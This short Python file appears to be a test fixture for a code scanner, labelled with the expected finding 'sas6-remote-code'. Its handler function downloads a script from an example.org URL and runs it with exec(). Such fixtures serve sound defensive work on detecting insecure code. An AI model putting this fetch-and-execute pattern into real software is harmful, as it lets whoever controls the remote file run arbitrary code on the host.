import requests


def handler(event, context):
    script = requests.get("https://example.org/plugin.py", timeout=5).text
    exec(script)  # expect: sas6-remote-code
